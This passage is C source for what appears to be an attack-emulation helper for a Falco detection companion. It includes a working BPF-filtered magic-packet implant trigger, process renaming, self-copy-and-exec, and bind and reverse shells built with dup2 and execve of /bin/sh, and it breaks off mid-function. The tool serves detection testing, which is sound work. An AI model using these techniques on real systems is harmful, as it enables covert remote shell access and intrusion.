/*
 * fc-emulate: the native half of `falco-companion emulate`.
 *
 * It performs the real system calls Node cannot make (packet and raw sockets, classic BPF socket
 * filters, prctl(PR_SET_NAME), dup2 + execve of a shell on a socket, unshare / mount attempts,
 * setns into a network namespace) and prints one JSON line per step to a journal:
 *
 *   {"t":<ns since epoch>,"run":"..","role":"..","pid":N,"ppid":N,"comm":"..","exe":"..",
 *    "step":"..","syscall":"..","args":"..","ret":N,"errno":null|"EPERM",...}
 *
 * The TypeScript side (src/emulate/) orchestrates the roles, checks the kernel footprint and
 * verifies the companion's detections. Every wait here is bounded (--wait-s); nothing talks to
 * anything but the addresses it is given (loopback or documentation addresses inside namespaces
 * the runner created). Safe by construction: real kernel files (core_pattern, the cgroup
 * release_agent) are only opened, never written; a cgroup mount that unexpectedly succeeds is
 * undone at once.
 *
 * Build: cc -O2 -static -o fc-emulate fc-emulate.c   (or without -static)
 * Usage: fc-emulate [--journal FILE] [--run ID] [--role NAME] [--netns PATH] [--die-with-parent 1]
 *                   <command> [options]
 *        fc-emulate help
 *
 * Licensed under the Apache License, Version 2.0.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define VERSION "1"
#define MAX_PORTS 64

extern char **environ;

static int jfd = -1;             /* journal fd (never 0..2, close-on-exec) */
static const char *run_id = "";
static const char *role = "";
static char *global_argv[16];    /* global options, re-passed by `drop` */
static int global_argc = 0;
static volatile sig_atomic_t stop_requested = 0;

/* ------------------------------------------------------------------------------------------ */
/* JSON journal */

struct buf {
  char b[8192];
  size_t n;
};

static void bput(struct buf *o, const char *s, size_t len) {
  if (o->n + len >= sizeof o->b - 2) len = sizeof o->b - 2 - o->n;
  memcpy(o->b + o->n, s, len);
  o->n += len;
}

static void bputs(struct buf *o, const char *s) { bput(o, s, strlen(s)); }

static void bprintf(struct buf *o, const char *fmt, ...) {
  char tmp[1024];
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(tmp, sizeof tmp, fmt, ap);
  va_end(ap);
  if (n < 0) return;
  bput(o, tmp, (size_t)n < sizeof tmp ? (size_t)n : sizeof tmp - 1);
}

static void bstr(struct buf *o, const char *s) {
  bputs(o, "\"");
  for (const unsigned char *p = (const unsigned char *)(s ? s : ""); *p; p++) {
    if (*p == '"' || *p == '\\') {
      char e[2] = {'\\', (char)*p};
      bput(o, e, 2);
    } else if (*p < 0x20) {
      bprintf(o, "\\u%04x", *p);
    } else {
      bput(o, (const char *)p, 1);
    }
  }
  bputs(o, "\"");
}

static long long now_ns(void) {
  struct timespec ts;
  clock_gettime(CLOCK_REALTIME, &ts);
  return (long long)ts.tv_sec * 1000000000LL + ts.tv_nsec;
}

static long long mono_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (long long)ts.tv_sec * 1000LL + ts.tv_nsec / 1000000;
}

static void read_small(const char *path, char *out, size_t cap) {
  out[0] = 0;
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  ssize_t n = read(fd, out, cap - 1);
  close(fd);
  if (n <= 0) return;
  out[n] = 0;
  char *nl = strchr(out, '\n');
  if (nl) *nl = 0;
}

/*
 * One journal line. `extra` is a (possibly empty) string of additional `,"key":value` members,
 * already JSON-encoded. `ret` is the syscall's return; `err` its errno when ret < 0 (else 0).
 */
static void journal(const char *step, const char *syscall, const char *args, long ret, int err, const char *extra) {
  struct buf o = {.n = 0};
  char comm[64], exe[512];
  read_small("/proc/self/comm", comm, sizeof comm);
  ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
  exe[n > 0 ? n : 0] = 0;
  bprintf(&o, "{\"t\":%lld,\"run\":", now_ns());
  bstr(&o, run_id);
  bputs(&o, ",\"role\":");
  bstr(&o, role);
  bprintf(&o, ",\"pid\":%d,\"ppid\":%d,\"comm\":", (int)getpid(), (int)getppid());
  bstr(&o, comm);
  bputs(&o, ",\"exe\":");
  bstr(&o, exe);
  bputs(&o, ",\"step\":");
  bstr(&o, step);
  bputs(&o, ",\"syscall\":");
  if (syscall) bstr(&o, syscall); else bputs(&o, "null");
  bputs(&o, ",\"args\":");
  if (args) bstr(&o, args); else bputs(&o, "null");
  bprintf(&o, ",\"ret\":%ld,\"errno\":", ret);
  if (ret < 0 && err) bstr(&o, strerrorname_np(err) ? strerrorname_np(err) : "E?"); else bputs(&o, "null");
  if (extra && *extra) bputs(&o, extra);
  bputs(&o, "}\n");
  if (jfd >= 0) {
    ssize_t w = write(jfd, o.b, o.n);
    (void)w;
  }
}

/* Journal a syscall result: ret as given, errno captured by the caller. */
#define J(step, sc, args, ret, extra) journal((step), (sc), (args), (long)(ret), (ret) < 0 ? errno : 0, (extra))

/* A journal line without a syscall, carrying one message member (`note` or `fatal`). */
static void journal_msg(const char *step, const char *key, long ret, const char *fmt, va_list ap, char *msg, size_t cap) {
  vsnprintf(msg, cap, fmt, ap);
  struct buf e = {.n = 0};
  bprintf(&e, ",\"%s\":", key);
  bstr(&e, msg);
  e.b[e.n] = 0;
  journal(step, NULL, NULL, ret, 0, e.b);
}

static void note(const char *step, const char *fmt, ...) {
  char msg[1024];
  va_list ap;
  va_start(ap, fmt);
  journal_msg(step, "note", 0, fmt, ap, msg, sizeof msg);
  va_end(ap);
}

static void die(const char *step, const char *fmt, ...) {
  char msg[1024];
  va_list ap;
  va_start(ap, fmt);
  journal_msg(step, "fatal", -1, fmt, ap, msg, sizeof msg);
  va_end(ap);
  if (jfd != 2) dprintf(2, "fc-emulate %s: %s\n", step, msg);
  exit(2);
}

/* ------------------------------------------------------------------------------------------ */
/* Small helpers */

static const char *opt(int argc, char **argv, const char *name, const char *def) {
  for (int i = 0; i < argc - 1; i++)
    if (strcmp(argv[i], name) == 0) return argv[i + 1];
  return def;
}

static long opt_long(int argc, char **argv, const char *name, long def) {
  const char *v = opt(argc, argv, name, NULL);
  if (!v) return def;
  char *end;
  long x = strtol(v, &end, 0);
  if (*end) die("args", "%s: not a number: %s", name, v);
  return x;
}

static const char *need(int argc, char **argv, const char *name) {
  const char *v = opt(argc, argv, name, NULL);
  if (!v) die("args", "missing %s", name);
  return v;
}

/* "1.2.3.4:80" → sockaddr_in. */
static struct sockaddr_in addr_port(const char *s) {
  struct sockaddr_in a;
  memset(&a, 0, sizeof a);
  a.sin_family = AF_INET;
  char host[64];
  const char *c = strrchr(s, ':');
  if (!c || (size_t)(c - s) >= sizeof host) die("args", "not HOST:PORT: %s", s);
  memcpy(host, s, (size_t)(c - s));
  host[c - s] = 0;
  if (inet_pton(AF_INET, host, &a.sin_addr) != 1) die("args", "not an IPv4 address: %s", host);
  a.sin_port = htons((uint16_t)atoi(c + 1));
  return a;
}

static struct in_addr addr_only(const char *s) {
  struct in_addr a;
  if (inet_pton(AF_INET, s, &a) != 1) die("args", "not an IPv4 address: %s", s);
  return a;
}

static int parse_ports(const char *s, int *out) {
  int n = 0;
  char tmp[512];
  snprintf(tmp, sizeof tmp, "%s", s);
  for (char *tok = strtok(tmp, ","); tok && n < MAX_PORTS; tok = strtok(NULL, ",")) out[n++] = atoi(tok);
  return n;
}

static const char *sa_text(const struct sockaddr_in *a, char *out, size_t cap) {
  char ip[INET_ADDRSTRLEN];
  inet_ntop(AF_INET, &a->sin_addr, ip, sizeof ip);
  snprintf(out, cap, "%s:%u", ip, ntohs(a->sin_port));
  return out;
}

static unsigned long sock_inode(int fd) {
  struct stat st;
  return fstat(fd, &st) == 0 ? (unsigned long)st.st_ino : 0;
}

static void sleep_ms(long ms) {
  if (ms <= 0) return;
  struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
  while (nanosleep(&ts, &ts) < 0 && errno == EINTR && !stop_requested) {
  }
}

/* Wait until `path` exists (the runner's go-ahead) or `wait_s` passes. Returns 1 when released. */
static int wait_release(const char *path, long wait_s) {
  if (!path) return 1;
  long long end = mono_ms() + wait_s * 1000;
  while (mono_ms() < end && !stop_requested) {
    if (access(path, F_OK) == 0) return 1;
    sleep_ms(20);
  }
  return 0;
}

/* poll one fd for `events` up to `ms`; returns poll's result. */
static int wait_fd(int fd, short events, long ms) {
  struct pollfd p = {.fd = fd, .events = events};
  long long end = mono_ms() + ms;
  for (;;) {
    long left = (long)(end - mono_ms());
    if (left < 0) left = 0;
    int r = poll(&p, 1, (int)(left > 200 ? 200 : left));
    if (r != 0 || left == 0 || stop_requested) return r;
  }
}

/* Read until `expect` appears (or EOF / timeout). Returns bytes read; `out` NUL-terminated. */
static int read_expect(int fd, const char *expect, char *out, size_t cap, long ms) {
  size_t n = 0;
  out[0] = 0;
  long long end = mono_ms() + ms;
  while (n < cap - 1 && mono_ms() < end) {
    if (wait_fd(fd, POLLIN, (long)(end - mono_ms())) <= 0) break;
    ssize_t r = read(fd, out + n, cap - 1 - n);
    if (r <= 0) break;
    n += (size_t)r;
    out[n] = 0;
    if (expect && strstr(out, expect)) break;
    if (!expect) break;
  }
  return (int)n;
}

static void on_term(int sig) {
  (void)sig;
  stop_requested = 1;
}

/* ------------------------------------------------------------------------------------------ */
/* Classic BPF program builder with symbolic jump targets */

enum { L_NEXT = 0, L_ACCEPT = -1, L_DROP = -2 };

struct prog {
  struct sock_filter ins[64];
  int lt[64], lf[64];
  int n;
};

static void op(struct prog *p, uint16_t code, uint32_t k) {
  p->ins[p->n] = (struct sock_filter)BPF_STMT(code, k);
  p->lt[p->n] = p->lf[p->n] = L_NEXT;
  p->n++;
}

static void jmp(struct prog *p, uint16_t code, uint32_t k, int t, int f) {
  p->ins[p->n] = (struct sock_filter)BPF_JUMP(code, k, 0, 0);
  p->lt[p->n] = t;
  p->lf[p->n] = f;
  p->n++;
}

/* Append `ret accept` and `ret 0`, resolve symbolic targets. */
static struct sock_fprog finish(struct prog *p) {
  int acc = p->n, drop = p->n + 1;
  op(p, BPF_RET | BPF_K, 0x40000);
  op(p, BPF_RET | BPF_K, 0);
  for (int i = 0; i < acc; i++) {
    if (BPF_CLASS(p->ins[i].code) != BPF_JMP) continue;
    int t = p->lt[i] == L_ACCEPT ? acc : p->lt[i] == L_DROP ? drop : i + 1;
    int f = p->lf[i] == L_ACCEPT ? acc : p->lf[i] == L_DROP ? drop : i + 1;
    p->ins[i].jt = (uint8_t)(t - i - 1);
    p->ins[i].jf = (uint8_t)(f - i - 1);
  }
  struct sock_fprog fp = {.len = (unsigned short)p->n, .filter = p->ins};
  return fp;
}

/*
 * UDP to `port` whose payload starts with `magic` (magic < 0: any payload). `l2` is 14 when the
 * socket sees an Ethernet header (packet sockets), 0 when it starts at the IP header (raw inet).
 */
static struct sock_fprog udp_filter(struct prog *p, int l2, int port, int magic) {
  p->n = 0;
  if (l2) {
    op(p, BPF_LD | BPF_H | BPF_ABS, 12);
    jmp(p, BPF_JMP | BPF_JEQ | BPF_K, ETH_P_IP, L_NEXT, L_DROP);
  }
  op(p, BPF_LD | BPF_B | BPF_ABS, (uint32_t)l2 + 9);
  jmp(p, BPF_JMP | BPF_JEQ | BPF_K, IPPROTO_UDP, L_NEXT, L_DROP);
  op(p, BPF_LD | BPF_H | BPF_ABS, (uint32_t)l2 + 6);
  jmp(p, BPF_JMP | BPF_JSET | BPF_K, 0x1fff, L_DROP, L_NEXT);
  op(p, BPF_LDX | BPF_B | BPF_MSH, (uint32_t)l2);
  op(p, BPF_LD | BPF_H | BPF_IND, (uint32_t)l2 + 2);
  jmp(p, BPF_JMP | BPF_JEQ | BPF_K, (uint32_t)port, magic < 0 ? L_ACCEPT : L_NEXT, L_DROP);
  if (magic >= 0) {
    op(p, BPF_LD | BPF_H | BPF_IND, (uint32_t)l2 + 8);
    jmp(p, BPF_JMP | BPF_JEQ | BPF_K, (uint32_t)magic, L_ACCEPT, L_DROP);
  }
  return finish(p);
}

/* ICMP echo request whose payload starts with `magic` (raw inet ICMP socket). */
static struct sock_fprog icmp_filter(struct prog *p, int magic) {
  p->n = 0;
  op(p, BPF_LD | BPF_B | BPF_ABS, 9);
  jmp(p, BPF_JMP | BPF_JEQ | BPF_K, IPPROTO_ICMP, L_NEXT, L_DROP);
  op(p, BPF_LDX | BPF_B | BPF_MSH, 0);
  op(p, BPF_LD | BPF_B | BPF_IND, 0);
  jmp(p, BPF_JMP | BPF_JEQ | BPF_K, ICMP_ECHO, L_NEXT, L_DROP);
  op(p, BPF_LD | BPF_H | BPF_IND, 8);
  jmp(p, BPF_JMP | BPF_JEQ | BPF_K, (uint32_t)magic, L_ACCEPT, L_DROP);
  return finish(p);
}

/* TCP SYN (no ACK) to `dst` on one of `ports` (raw inet TCP socket). */
static struct sock_fprog syn_filter(struct prog *p, uint32_t dst_host_order, const int *ports, int nports) {
  p->n = 0;
  op(p, BPF_LD | BPF_B | BPF_ABS, 9);
  jmp(p, BPF_JMP | BPF_JEQ | BPF_K, IPPROTO_TCP, L_NEXT, L_DROP);
  op(p, BPF_LD | BPF_W | BPF_ABS, 16);
  jmp(p, BPF_JMP | BPF_JEQ | BPF_K, dst_host_order, L_NEXT, L_DROP);
  op(p, BPF_LD | BPF_H | BPF_ABS, 6);
  jmp(p, BPF_JMP | BPF_JSET | BPF_K, 0x1fff, L_DROP, L_NEXT);
  op(p, BPF_LDX | BPF_B | BPF_MSH, 0);
  op(p, BPF_LD | BPF_B | BPF_IND, 13);
  op(p, BPF_ALU | BPF_AND | BPF_K, 0x12);
  jmp(p, BPF_JMP | BPF_JEQ | BPF_K, 0x02, L_NEXT, L_DROP);
  op(p, BPF_LD | BPF_H | BPF_IND, 2);
  for (int i = 0; i < nports; i++) jmp(p, BPF_JMP | BPF_JEQ | BPF_K, (uint32_t)ports[i], L_ACCEPT, i == nports - 1 ? L_DROP : L_NEXT);
  return finish(p);
}

static struct sock_fprog reject_all(struct prog *p) {
  p->n = 0;
  p->ins[0] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, 0);
  p->n = 1;
  struct sock_fprog fp = {.len = 1, .filter = p->ins};
  return fp;
}

static void attach(int fd, struct sock_fprog *fp, const char *what) {
  char args[160], extra[96];
  snprintf(args, sizeof args, "fd=%d, SOL_SOCKET, SO_ATTACH_FILTER, {len=%u: %s}", fd, fp->len, what);
  int r = setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, fp, sizeof *fp);
  snprintf(extra, sizeof extra, ",\"fd\":%d,\"ino\":%lu,\"insns\":%u", fd, sock_inode(fd), fp->len);
  J("attach_filter", "setsockopt", args, r, extra);
  if (r < 0) die("attach_filter", "setsockopt(SO_ATTACH_FILTER): %s", strerror(errno));
}

/* Drop whatever queued before the filter was in place. */
static int drain(int fd) {
  char b[2048];
  int n = 0;
  while (n < 10000 && recv(fd, b, sizeof b, MSG_DONTWAIT) >= 0) n++;
  return n;
}

/* A raw / packet socket, journaled as step raw_socket; dies when it cannot be opened. */
static int raw_socket_j(int domain, int type, int proto, const char *text) {
  int fd = socket(domain, type, proto);
  char extra[128];
  snprintf(extra, sizeof extra, ",\"fd\":%d,\"ino\":%lu,\"family\":\"%s\"", fd, fd >= 0 ? sock_inode(fd) : 0, domain == AF_PACKET ? "AF_PACKET" : "AF_INET");
  J("raw_socket", "socket", text, fd, extra);
  if (fd < 0) die("raw_socket", "socket(%s): %s (needs CAP_NET_RAW)", text, strerror(errno));
  return fd;
}

/* An AF_PACKET socket for all protocols bound to `ifname` (libpcap and DHCP clients do this). */
static int packet_on(const char *ifname) {
  int fd = raw_socket_j(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL), "AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)");
  struct sockaddr_ll ll;
  memset(&ll, 0, sizeof ll);
  ll.sll_family = AF_PACKET;
  ll.sll_protocol = htons(ETH_P_ALL);
  ll.sll_ifindex = (int)if_nametoindex(ifname);
  int r = bind(fd, (struct sockaddr *)&ll, sizeof ll);
  char args[160];
  snprintf(args, sizeof args, "AF_PACKET, ifindex %d (%s)", ll.sll_ifindex, ifname);
  J("bind_interface", "bind", args, r, "");
  return fd;
}

/*
 * A TCP listener on host:port for the first free port in [lo, hi], journaled (bind, listening
 * with port and inode); -1 when none is free. `*port` gets the port.
 */
static int tcp_listen(const char *host, int lo, int hi, int backlog, int *port) {
  int ls = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  int on = 1;
  setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
  struct sockaddr_in a;
  memset(&a, 0, sizeof a);
  a.sin_family = AF_INET;
  a.sin_addr = addr_only(host);
  int got = -1;
  for (int pp = lo; pp <= hi; pp++) {
    a.sin_port = htons((uint16_t)pp);
    if (bind(ls, (struct sockaddr *)&a, sizeof a) == 0) {
      got = pp;
      break;
    }
  }
  char args[100], extra[100];
  snprintf(args, sizeof args, "%s:%d", host, got < 0 ? lo : got);
  J("bind", "bind", args, got < 0 ? -1 : 0, "");
  if (got < 0) {
    close(ls);
    return -1;
  }
  int r = listen(ls, backlog);
  snprintf(extra, sizeof extra, ",\"port\":%d,\"fd\":%d,\"ino\":%lu", got, ls, sock_inode(ls));
  J("listening", "listen", args, r, extra);
  *port = got;
  return ls;
}

/*
 * One conversation on a connected socket (the bind-shell client, the reverse-shell listener):
 * read until `expect` (journaled), wait for the runner's go-ahead file, send `send_` + newline,
 * half-close, drain briefly, close.
 */
static void converse(int fd, const char *what, const char *expect, const char *send_, const char *release, long wait_s) {
  char got[512];
  if (expect) {
    int n = read_expect(fd, expect, got, sizeof got, wait_s * 1000);
    struct buf e = {.n = 0};
    bputs(&e, ",\"received\":");
    bstr(&e, got);
    bprintf(&e, ",\"matched\":%s", strstr(got, expect) ? "true" : "false");
    e.b[e.n] = 0;
    journal("received", "read", what, n, 0, e.b);
  }
  int released = wait_release(release, wait_s);
  note("released", "%s", released ? "go-ahead received" : "no go-ahead: ending after the wait");
  if (send_) {
    char line[256];
    int len = snprintf(line, sizeof line, "%s\n", send_);
    ssize_t w = write(fd, line, (size_t)len);
    J("sent", "write", send_, w, "");
  }
  shutdown(fd, SHUT_WR);
  read_expect(fd, NULL, got, sizeof got, 1000);
  close(fd);
}

/* ------------------------------------------------------------------------------------------ */
/* Commands */

static int cmd_idle(int argc, char **argv) {
  long max_s = opt_long(argc, argv, "--max-s", 600);
  note("idle", "waiting up to %ld s for SIGTERM", max_s);
  long long end = mono_ms() + max_s * 1000;
  while (!stop_requested && mono_ms() < end) {
    while (waitpid(-1, NULL, WNOHANG) > 0) {
    }
    sleep_ms(100);
  }
  return 0;
}

static int cmd_drop(int argc, char **argv) {
  const char *to = need(argc, argv, "--to");
  int rest = -1;
  for (int i = 0; i < argc; i++)
    if (strcmp(argv[i], "--") == 0) {
      rest = i + 1;
      break;
    }
  if (rest < 0 || rest >= argc) die("drop", "usage: drop --to PATH -- <command> [options]");
  int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  J("read_self", "open", "/proc/self/exe, O_RDONLY", in, "");
  if (in < 0) die("drop", "open /proc/self/exe: %s", strerror(errno));
  int out = open(to, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0700);
  char args[600];
  snprintf(args, sizeof args, "%s, O_WRONLY|O_CREAT|O_TRUNC, 0700", to);
  J("write_copy", "open", args, out, "");
  if (out < 0) die("drop", "open %s: %s", to, strerror(errno));
  char b[65536];
  ssize_t r;
  long total = 0;
  while ((r = read(in, b, sizeof b)) > 0) {
    if (write(out, b, (size_t)r) != r) die("drop", "write %s: %s", to, strerror(errno));
    total += r;
  }
  close(in);
  int c = fchmod(out, 0755);
  J("chmod_copy", "fchmod", "0755", c, "");
  close(out);
  char extra[64];
  snprintf(extra, sizeof extra, ",\"bytes\":%ld", total);
  note("dropped", "copied %ld bytes to %s", total, to);
  /* argv: basename(to), the global options, then the command after `--`. */
  char *nargv[128];
  int k = 0;
  const char *base = strrchr(to, '/');
  nargv[k++] = (char *)(base ? base + 1 : to);
  for (int i = 0; i < global_argc && k < 100; i++) nargv[k++] = global_argv[i];
  for (int i = rest; i < argc && k < 126; i++) nargv[k++] = argv[i];
  nargv[k] = NULL;
  snprintf(args, sizeof args, "%s, [%s ...]", to, nargv[0]);
  J("exec_copy", "execve", args, 0, extra);
  execve(to, nargv, environ);
  J("exec_copy", "execve", args, -1, "");
  die("drop", "execve %s: %s", to, strerror(errno));
  return 2;
}

/*
 * eBPF first, like implants that prefer SO_ATTACH_BPF: bpf(BPF_PROG_LOAD) of a two-instruction
 * socket-filter program. Usually refused (no CAP_BPF, unprivileged_bpf_disabled, seccomp); when it
 * loads, the program is closed again at once (never attached: it would drop every packet) and the
 * classic filter below is used either way.
 */
static void try_ebpf(void) {
  struct bpf_insn insns[2];
  memset(insns, 0, sizeof insns);
  insns[0].code = BPF_ALU64 | BPF_MOV | BPF_K; /* r0 = 0 */
  insns[1].code = BPF_JMP | BPF_EXIT;
  union bpf_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
  attr.insns = (uint64_t)(uintptr_t)insns;
  attr.insn_cnt = 2;
  attr.license = (uint64_t)(uintptr_t) "GPL";
  long fd = syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr);
  J("bpf_prog_load", "bpf", "BPF_PROG_LOAD, BPF_PROG_TYPE_SOCKET_FILTER, 2 insns", fd, "");
  if (fd >= 0) close((int)fd);
}

static int open_trigger_socket(const char *kind, struct prog *p, int port, int magic) {
  int fd;
  struct sock_fprog fp;
  if (strcmp(kind, "packet") == 0) {
    fd = raw_socket_j(AF_PACKET, SOCK_RAW, htons(ETH_P_IP), "AF_PACKET, SOCK_RAW, htons(ETH_P_IP)");
    fp = udp_filter(p, 14, port, magic);
    attach(fd, &fp, "ipv4 udp dport + magic");
  } else if (strcmp(kind, "inet-udp") == 0) {
    fd = raw_socket_j(AF_INET, SOCK_RAW, IPPROTO_UDP, "AF_INET, SOCK_RAW, IPPROTO_UDP");
    fp = udp_filter(p, 0, port, magic);
    attach(fd, &fp, "udp dport + magic");
  } else if (strcmp(kind, "inet-icmp") == 0) {
    fd = raw_socket_j(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP, "AF_INET, SOCK_RAW|SOCK_CLOEXEC, IPPROTO_ICMP");
    fp = icmp_filter(p, magic);
    attach(fd, &fp, "icmp echo + magic");
  } else {
    die("args", "--socket must be packet, inet-udp or inet-icmp");
    return -1;
  }
  return fd;
}

/* Source address of a received trigger (IP header at `l2`). */
static void packet_source(const unsigned char *b, ssize_t n, int l2, char *out, size_t cap) {
  if (n < l2 + 20) {
    snprintf(out, cap, "?");
    return;
  }
  struct in_addr a;
  memcpy(&a, b + l2 + 12, 4);
  inet_ntop(AF_INET, &a, out, (socklen_t)cap);
}

static void exec_shell(int conn, const char *cmd) {
  char args[300];
  for (int i = 0; i <= 2; i++) {
    int r = dup2(conn, i);
    snprintf(args, sizeof args, "%d, %d", conn, i);
    J("redirect_stdio", "dup2", args, r, "");
  }
  if (conn > 2) close(conn);
  char *sargv[] = {"sh", "-c", (char *)cmd, NULL};
  char *senv[] = {"HISTFILE=/dev/null", "HOME=/tmp", "PATH=/bin:/usr/bin:/sbin:/usr/sbin", NULL};
  snprintf(args, sizeof args, "/bin/sh, [sh, -c, %s]", cmd);
  J("shell", "execve", args, 0, "");
  execve("/bin/sh", sargv, senv);
  J("shell", "execve", args, -1, "");
  _exit(127);
}

static int cmd_implant(int argc, char **argv) {
  const char *comm = opt(argc, argv, "--comm", NULL);
  const char *pidfile = opt(argc, argv, "--pidfile", NULL);
  const char *kind = need(argc, argv, "--socket");
  int tport = (int)opt_long(argc, argv, "--trigger-port", 0);
  int magic = (int)strtol(need(argc, argv, "--magic"), NULL, 16);
  const char *bindspec = opt(argc, argv, "--bind", NULL);
  const char *reverse = opt(argc, argv, "--reverse", NULL);
  const char *shell = opt(argc, argv, "--shell", "echo emulated-shell; read line");
  long wait_s = opt_long(argc, argv, "--wait-s", 30);
  int ebpf = opt_long(argc, argv, "--try-ebpf", 0) != 0;
  char args[600], extra[256];

  if (comm) {
    int r = prctl(PR_SET_NAME, comm, 0, 0, 0);
    snprintf(args, sizeof args, "PR_SET_NAME, \"%s\"", comm);
    J("rename", "prctl", args, r, "");
  }
  if (pidfile) {
    int fd = open(pidfile, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    snprintf(args, sizeof args, "%s, O_WRONLY|O_CREAT|O_EXCL, 0644", pidfile);
    J("pidfile", "openat", args, fd, "");
    if (fd >= 0) {
      dprintf(fd, "%d\n", (int)getpid());
      close(fd);
    }
  }
  struct prog p;
  if (ebpf) try_ebpf();
  int fd = open_trigger_socket(kind, &p, tport, magic);
  int drained = drain(fd);
  int l2 = strcmp(kind, "packet") == 0 ? 14 : 0;
  snprintf(extra, sizeof extra, ",\"fd\":%d,\"ino\":%lu,\"socket\":\"%s\",\"drained\":%d", fd, sock_inode(fd), kind, drained);
  journal("armed", NULL, NULL, 0, 0, extra);

  unsigned char b[2048];
  long long end = mono_ms() + wait_s * 1000;
  ssize_t n = -1;
  while (mono_ms() < end && !stop_requested) {
    if (wait_fd(fd, POLLIN, (long)(end - mono_ms())) <= 0) continue;
    n = recv(fd, b, sizeof b, 0);
    if (n > 0) break;
  }
  if (n <= 0) die("trigger", "no magic packet within %ld s", wait_s);
  char src[64];
  packet_source(b, n, l2, src, sizeof src);
  snprintf(extra, sizeof extra, ",\"source\":\"%s\",\"bytes\":%zd", src, n);
  journal("trigger", "recvfrom", "magic packet", n, 0, extra);
  int c = close(fd);
  J("disarm", "close", "raw socket", c, "");

  if (bindspec) {
    /* ADDR:MIN-MAX: the first free port. */
    char host[64];
    int lo = 0, hi = 0;
    const char *colon = strrchr(bindspec, ':');
    if (!colon || sscanf(colon + 1, "%d-%d", &lo, &hi) < 1) die("args", "--bind ADDR:MIN-MAX");
    if (hi < lo) hi = lo;
    snprintf(host, sizeof host, "%.*s", (int)(colon - bindspec), bindspec);
    int port = -1;
    int ls = tcp_listen(host, lo, hi, 4, &port);
    if (ls < 0) die("bind", "no free port in %s", bindspec);
    snprintf(args, sizeof args, "%s:%d", host, port);
    if (wait_fd(ls, POLLIN, wait_s * 1000) <= 0) die("accept", "no client within %ld s", wait_s);
    struct sockaddr_in peer;
    socklen_t pl = sizeof peer;
    int conn = accept(ls, (struct sockaddr *)&peer, &pl);
    char pt[64];
    snprintf(extra, sizeof extra, ",\"peer\":\"%s\",\"fd\":%d,\"ino\":%lu", conn >= 0 ? sa_text(&peer, pt, sizeof pt) : "", conn, conn >= 0 ? sock_inode(conn) : 0);
    J("accepted", "accept", args, conn, extra);
    if (conn < 0) die("accept", "%s", strerror(errno));
    close(ls);
    exec_shell(conn, shell);
  } else if (reverse) {
    struct sockaddr_in a = addr_port(reverse);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    J("reverse_socket", "socket", "AF_INET, SOCK_STREAM", s, "");
    int r = connect(s, (struct sockaddr *)&a, sizeof a);
    struct sockaddr_in local;
    socklen_t ll = sizeof local;
    char lt[64] = "";
    if (r == 0 && getsockname(s, (struct sockaddr *)&local, &ll) == 0) sa_text(&local, lt, sizeof lt);
    snprintf(extra, sizeof extra, ",\"local\":\"%s\",\"fd\":%d,\"ino\":%lu", lt, s, sock_inode(s));
    J("connected", "connect", reverse, r, extra);
    if (r < 0) die("connect", "%s: %s", reverse, strerror(errno));
    exec_shell(s, shell);
  }
  die("args", "give --bind or --reverse");
  return 2;
}

static int cmd_magic(int argc, char **argv) {
  const char *udp = opt(argc, argv, "--udp", NULL);
  const char *icmp = opt(argc, argv, "--icmp", NULL);
  int magic = (int)strtol(need(argc, argv, "--magic"), NULL, 16);
  long delay = opt_long(argc, argv, "--delay-ms", 0);
  long repeat = opt_long(argc, argv, "--repeat", 1);
  unsigned char payload[64];
  payload[0] = (unsigned char)(magic >> 8);
  payload[1] = (unsigned char)magic;
  int plen = 2 + snprintf((char *)payload + 2, sizeof payload - 2, "fc-emulate %s", run_id);
  char args[200], extra[96];
  for (long i = 0; i < repeat && !stop_requested; i++) {
    if (delay > 0) {
      note("delay", "waiting %ld ms before the trigger", delay);
      sleep_ms(delay);
    }
    if (udp) {
      struct sockaddr_in a = addr_port(udp);
      int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
      ssize_t r = sendto(s, payload, (size_t)plen, 0, (struct sockaddr *)&a, sizeof a);
      snprintf(args, sizeof args, "udp %s, magic 0x%04x, %d bytes", udp, magic, plen);
      J("magic_sent", "sendto", args, r, "");
      close(s);
    } else if (icmp) {
      struct sockaddr_in a;
      memset(&a, 0, sizeof a);
      a.sin_family = AF_INET;
      a.sin_addr = addr_only(icmp);
      unsigned char pkt[128];
      memset(pkt, 0, sizeof pkt);
      struct icmphdr *h = (struct icmphdr *)pkt;
      h->type = ICMP_ECHO;
      h->un.echo.id = htons((uint16_t)getpid());
      h->un.echo.sequence = htons((uint16_t)(i + 1));
      memcpy(pkt + sizeof *h, payload, (size_t)plen);
      int len = (int)sizeof *h + plen;
      uint32_t sum = 0;
